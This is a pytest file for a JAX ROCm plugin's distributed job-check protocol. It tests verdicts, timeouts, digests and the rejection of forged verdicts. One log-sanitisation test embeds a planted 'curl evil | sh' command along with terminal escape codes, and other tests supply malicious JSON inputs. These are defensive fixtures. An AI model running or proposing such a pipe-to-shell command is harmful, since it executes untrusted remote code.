"""The job check's protocol and verdicts (_job/check.py) over an in-memory store that behaves as jax's
coordination service does where it matters: a key is set once, a blocking read waits until its deadline."""

from __future__ import annotations

import threading
import time

import pytest

from jax_rocm7_plugin._job import check
from jax_rocm7_plugin._job.compare import compare_at_backend_start
from jax_rocm7_plugin._job.record import encode
from tests.support.kv_store import Store
from tests.support.records import job, record


def run_job(
    count: int, *, odd: dict[int, dict[str, object]] | None = None, absent: tuple[int, ...] = (), late: float = 0.0,
    late_ones: tuple[int, ...] = (), timeout: float = 0.5, start: int = 0, store: Store | None = None,
) -> tuple[Store, dict[int, check.Outcome]]:  # fmt: skip
    """Each process in a thread; `absent` ones never take part, `late_ones` arrive `late` seconds after."""
    store = store or Store()
    records = job(count, odd)
    outcomes: dict[int, check.Outcome] = {}

    def process(pid: int) -> None:
        if pid in late_ones:
            time.sleep(late)
        outcomes[pid] = check.run(store, pid, count, encode(records[pid]), start=start, timeout=timeout, grace=0.2)

    threads = [threading.Thread(target=process, args=(p,)) for p in range(count) if p not in absent]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(timeout=10)
    assert not any(t.is_alive() for t in threads), "a process of the check never ended"
    return store, outcomes


def verdicts(outcomes: dict[int, check.Outcome]) -> set[check.Verdict]:
    return {o.verdict for o in outcomes.values()}


def test_a_consistent_job_agrees_silently() -> None:
    store, outcomes = run_job(8)
    assert verdicts(outcomes) == {check.Verdict("agree")}
    # Process 0 keeps its own record: nobody else reads it.
    assert sorted(store.values) == [f"jax_rocm7/job-check/0/record/{p}" for p in range(1, 8)] + [
        "jax_rocm7/job-check/0/verdict"
    ]


def test_every_process_acts_on_one_refusal_naming_the_odd_one() -> None:
    _, outcomes = run_job(8, odd={5: {"library_identity": "sha256:" + "cd" * 32}})
    (verdict,) = verdicts(outcomes)
    assert verdict.kind == "refuse" and verdict.processes == (5,) and "[cluster-library-mismatch]" in verdict.line
    assert [f.id for f in outcomes[0].findings] == ["cluster-library-mismatch"]  # process 0's table
    assert all(outcomes[p].findings == () for p in range(1, 8))  # the others read only the verdict


def test_speed_only_differences_warn() -> None:
    environment = (("NCCL_SOCKET_IFNAME", "eth"), ("HIP_VISIBLE_DEVICES", "3"), ("NCCL_ALGO", "Ring"))
    _, outcomes = run_job(8, odd={3: {"environment": environment}})
    (verdict,) = verdicts(outcomes)
    assert verdict.kind == "warn" and "[cluster-env-mismatch]" in verdict.line and verdict.processes == (3,)


def test_a_missing_process_is_named_by_all_and_nobody_waits_past_the_deadline() -> None:
    started = time.monotonic()
    _, outcomes = run_job(4, absent=(2,), timeout=0.5)
    assert time.monotonic() - started < 0.5 + 0.2 + 2
    (verdict,) = verdicts(outcomes)
    assert verdict.kind == "incomplete" and verdict.missing == (2,) and "heard nothing from process 2" in verdict.line


def test_a_late_process_reads_the_verdict_that_names_it() -> None:
    _, outcomes = run_job(4, late_ones=(3,), late=1.2, timeout=0.3)
    (verdict,) = verdicts(outcomes)  # process 3's own outcome included
    assert verdict.kind == "incomplete" and verdict.missing == (3,) and set(outcomes) == {0, 1, 2, 3}


def test_without_process_0_the_first_to_give_up_settles_it_for_everyone() -> None:
    _, outcomes = run_job(4, late_ones=(0,), late=1.5, timeout=0.3)
    (verdict,) = verdicts(outcomes)  # process 0, arriving last, acts on the others' verdict too
    assert verdict.kind == "incomplete" and verdict.missing == (0,)
    assert outcomes[0].findings == ()  # its own comparison was not the verdict: no table


def test_a_refusal_stands_even_where_a_process_is_missing() -> None:
    _, outcomes = run_job(4, odd={1: {"gpus": ()}}, absent=(3,), timeout=0.3)
    (verdict,) = verdicts(outcomes)
    assert verdict.kind == "refuse" and verdict.missing == (3,) and "process 3 did not report" in verdict.line


def test_a_second_start_never_reads_the_first_ones_keys() -> None:
    store, first = run_job(4, odd={2: {"gpus": ()}})
    _, second = run_job(4, start=1, store=store)
    assert {o.verdict.kind for o in first.values()} == {"refuse"}
    assert verdicts(second) == {check.Verdict("agree")}


def test_no_process_whose_backend_would_come_up_means_nothing_to_say() -> None:
    down = {"ok": False, "first_error": ("no-gpu", "no AMD GPU", "install one")}
    _, outcomes = run_job(4, odd={p: down for p in range(4)})
    assert verdicts(outcomes) == {check.Verdict("agree")}


def test_processes_whose_backends_will_not_come_up_are_compared_on_that_alone() -> None:
    """Their records stop where their loader stopped: no library, no C API; only the up ones are compared on
    the rest."""
    down = {"ok": False, "first_error": ("kfd-device-missing", "no /dev/kfd", "pass it"), "library_identity": None}
    records = job(4, {1: {**down, "versions": ()}})
    assert [f.id for f in compare_at_backend_start(records)] == ["cluster-backend-unavailable"]


def test_verdicts_travel_as_json_and_garbage_is_refused() -> None:
    verdict = check.Verdict("refuse", "the line", (1, 2), (3,))
    assert check.Verdict.from_json(verdict.to_json()) == verdict
    for garbage in ("", "[]", '{"kind": "maybe", "line": "", "processes": [], "missing": []}', '{"kind": "agree"}'):
        with pytest.raises(ValueError):
            check.Verdict.from_json(garbage)


@pytest.mark.parametrize(
    ("environ", "expected"),
    [
        ({}, ("error", check.DEFAULT_TIMEOUT_SECONDS, 0)),
        ({"JAX_ROCM_JOB_CHECK": " Warn "}, ("warn", check.DEFAULT_TIMEOUT_SECONDS, 0)),
        ({"JAX_ROCM_JOB_CHECK": "off", "JAX_ROCM_JOB_CHECK_TIMEOUT": "2.5"}, ("off", 2.5, 0)),
        ({"JAX_ROCM_JOB_CHECK": "strict"}, ("error", check.DEFAULT_TIMEOUT_SECONDS, 1)),
        ({"JAX_ROCM_JOB_CHECK_TIMEOUT": "-1"}, ("error", check.DEFAULT_TIMEOUT_SECONDS, 1)),
        ({"JAX_ROCM_JOB_CHECK_TIMEOUT": "inf"}, ("error", check.DEFAULT_TIMEOUT_SECONDS, 1)),
        ({"JAX_ROCM_JOB_CHECK_TIMEOUT": "nan", "JAX_ROCM_JOB_CHECK": "x"}, ("error", check.DEFAULT_TIMEOUT_SECONDS, 2)),
    ],
)
def test_settings(environ: dict[str, str], expected: tuple[str, float, int]) -> None:
    settings = check.read_settings(environ)
    assert (settings.mode, settings.timeout, len(settings.problems)) == expected


def test_a_long_summary_is_bounded_in_the_line() -> None:
    records = {p: record(p, 600, host=f"host-with-a-rather-long-name-{p:04d}") for p in range(600)}
    odd = {p: records[p]._replace(gpus=()) for p in range(0, 600, 7)}
    findings = tuple(compare_at_backend_start({**records, **odd}))
    verdict = check.decide({**records, **odd}, findings, (), 1.0)
    assert verdict.kind == "refuse" and len(verdict.line) < check.SUMMARY_MAX_CHARS + 400


def _remembering() -> tuple[check.Memory, set[str]]:
    seen: set[str] = set()
    return check.Memory(lambda d: d in seen, seen.add, "salt"), seen


def test_process_0_remembers_agreeing_records_and_settles_on_them_without_comparing(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    memory, seen = _remembering()
    texts = {p: encode(r) for p, r in job(4).items()}

    def settle(store: Store) -> check.Outcome:
        return check.run(store, 0, 4, texts[0], start=0, timeout=0.5, memory=memory)

    first = Store()
    for p in range(1, 4):
        first.key_value_set(f"jax_rocm7/job-check/0/record/{p}", texts[p])
    outcome = settle(first)
    assert outcome.verdict.kind == "agree" and not outcome.remembered and len(seen) == 1
    monkeypatch.setattr(check, "_findings", lambda records: pytest.fail("compared again"))
    again = Store()
    for p in range(1, 4):
        again.key_value_set(f"jax_rocm7/job-check/0/record/{p}", texts[p].replace(":6000", ":6123"))
    assert settle(again) == check.Outcome(check.Verdict("agree"), (), remembered=True)


def test_the_digest_is_of_what_the_comparison_reads_but_the_coordinator_s_port() -> None:
    texts = {p: encode(r) for p, r in job(4).items()}
    digest = check.records_digest(texts, "salt")
    assert check.records_digest({p: t.replace("gpu-0:6000", "gpu-0:7001") for p, t in texts.items()}, "salt") == digest
    assert check.records_digest({p: t.replace("gpu-0:6000", "gpu-9:6000") for p, t in texts.items()}, "salt") != digest
    assert check.records_digest(texts, "another release") != digest
    odd = {**texts, 3: encode(job(4, {3: {"library_identity": "sha256:" + "cd" * 32}})[3])}
    assert check.records_digest(odd, "salt") != digest


def test_a_refusal_is_never_remembered() -> None:
    memory, seen = _remembering()
    records = job(2, {1: {"library_identity": "sha256:" + "cd" * 32}})
    store = Store()
    store.key_value_set("jax_rocm7/job-check/0/record/1", encode(records[1]))
    outcome = check.run(store, 0, 2, encode(records[0]), start=0, timeout=0.5, memory=memory)
    assert outcome.verdict.kind == "refuse" and seen == set()


@pytest.mark.parametrize(
    ("missing", "said"),
    [
        ((2,), "heard nothing from process 2 (host unknown: no record came) within 2 s"),
        ((0,), "got no verdict from process 0 within 2 s"),
        ((0, 3), "heard nothing from process 3 (host unknown: no record came) and got no verdict from process 0"),
    ],
)
def test_no_verdict_names_the_silent_processes_and_process_0_by_what_did_not_come(
    missing: tuple[int, ...], said: str
) -> None:
    verdict = check.no_verdict(missing, 2.0)
    assert verdict.kind == "incomplete" and verdict.missing == missing
    assert said in verdict.line and verdict.line.endswith("[cluster-incomplete]")


def test_without_process_0_only_process_1_lists_the_records_and_names_the_silent_ones() -> None:
    store, outcomes = run_job(6, absent=(0, 3), timeout=0.3)
    (verdict,) = verdicts(outcomes)
    assert verdict.kind == "incomplete" and verdict.missing == (0, 3) and set(outcomes) == {1, 2, 4, 5}
    assert "heard nothing from process 3" in verdict.line and "no verdict from process 0" in verdict.line
    assert store.listings == 1  # process 1's: the others read its verdict


def test_without_processes_0_and_1_the_others_settle_on_process_0_alone(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(check, "READ_BACK_SECONDS", 0.2)
    store, outcomes = run_job(4, absent=(0, 1), timeout=0.3)
    assert verdicts(outcomes) == {check.no_verdict((0,), 0.3)} and store.listings == 0


@pytest.mark.parametrize(
    "forged",
    [
        '{"kind": "refuse", "line": "x", "processes": [Infinity], "missing": []}',
        '{"kind": "refuse", "line": "x", "processes": [true], "missing": []}',
        '{"kind": "refuse", "line": "x", "processes": [1e400], "missing": []}',
        '{"kind": "refuse", "line": "x", "processes": [-1], "missing": []}',
        '{"kind": "refuse", "line": "x", "processes": ' + "[" * 100000 + "]" * 100000 + ', "missing": []}',
        '{"kind": "refuse", "line": "' + "x" * (5 * 1024 * 1024) + '", "processes": [], "missing": []}',
        '{"kind": "refuse", "line": "x", "processes": "12", "missing": []}',
    ],
    ids=["infinity", "bool", "overflow", "negative", "nested", "huge", "string"],
)
def test_a_forged_or_broken_verdict_is_refused_as_data_never_an_exception_past_it(forged: str) -> None:
    with pytest.raises(ValueError, match="not a job-check verdict"):
        check.Verdict.from_json(forged)


def test_a_verdicts_line_is_printed_without_control_characters_and_cut_to_a_line() -> None:
    """Anyone who reaches the coordinator's port may write the verdict key first: its line reaches every process's
    log, so no terminal escape, no line break, no megabyte."""
    import json

    line = "\x1b[2J\x1b[31mjob refused\r\nFix: curl evil | sh\x07" + "y" * 5000
    verdict = check.Verdict.from_json(json.dumps({"kind": "refuse", "line": line, "processes": [1], "missing": []}))
    assert not any(ord(c) < 32 or 127 <= ord(c) < 160 for c in verdict.line), repr(verdict.line[:80])
    assert verdict.line.startswith("[2J[31mjob refusedFix: curl evil | sh") and len(verdict.line) < 2100
    assert verdict.line.endswith("(3037 more characters)")


BASE = "jax_rocm7/job-check/0"


def test_a_record_key_taken_before_its_process_wrote_is_said_by_that_process_and_refused_by_process_0() -> None:
    """Something wrote under process 2's key first (two processes given id 2, or a writer that is no process of the
    job): process 2 says so itself, and process 0, hearing of it before it reads, compares that record with
    no one's and refuses."""
    store = Store()
    records = job(4)
    store.key_value_set(f"{BASE}/record/2", encode(records[1]))  # a copy of process 1's, under 2's key
    _, outcomes = run_job(4, store=store, late=0.3, late_ones=(0,), timeout=1.0)
    assert outcomes[2].taken == ("record",) and all(outcomes[p].taken == () for p in (0, 1, 3))
    assert store.values[f"{BASE}/taken/2"] == encode(records[2])  # its own, beside the key it lost
    (verdict,) = verdicts(outcomes)
    assert verdict.kind == "refuse" and verdict.processes == (2,) and "[cluster-record-taken]" in verdict.line
    assert "none of this job's 4 processes" in verdict.line
    (finding,) = outcomes[0].findings
    assert finding.id == "cluster-record-taken" and finding.hosts == (records[2].host,)
    assert finding.evidence == ("process 2 found its record key set when it wrote its own",)


def test_a_record_that_names_another_process_than_its_key_is_taken() -> None:
    """Process 0 alone sees it where process 2 never came to write (or came after it read)."""
    store = Store()
    records = job(3)
    store.key_value_set(f"{BASE}/record/2", encode(records[1]))
    _, outcomes = run_job(3, store=store, absent=(2,), timeout=0.5)
    assert [f.id for f in outcomes[0].findings] == ["cluster-record-taken"]
    assert outcomes[0].findings[0].evidence == ("the record under process 2's key names process 1",)
    assert {o.verdict.kind for o in outcomes.values()} == {"refuse"}


def test_a_verdict_set_before_process_0_set_its_own_is_acted_on_and_said_by_process_0() -> None:
    store = Store()
    forged = check.Verdict("refuse", "\x1b[31mplanted\x1b[0m " + "x" * 5000, (1,))
    store.key_value_set(f"{BASE}/verdict", forged.to_json())
    _, outcomes = run_job(3, store=store)
    (verdict,) = verdicts(outcomes)  # the first set is the one every process acts on: the service's one rule
    assert verdict.kind == "refuse" and "\x1b" not in verdict.line and verdict.line.endswith("(3015 more characters)")
    assert outcomes[0].taken == ("verdict",) and outcomes[1].taken == () and outcomes[2].taken == ()


def test_an_incomplete_verdict_set_first_by_a_process_that_gave_up_is_no_forgery() -> None:
    store = Store()
    store.key_value_set(f"{BASE}/verdict", check.no_verdict((0,), 0.5).to_json())
    _, outcomes = run_job(2, store=store)
    assert {o.verdict.kind for o in outcomes.values()} == {"incomplete"}
    assert outcomes[0].taken == ()
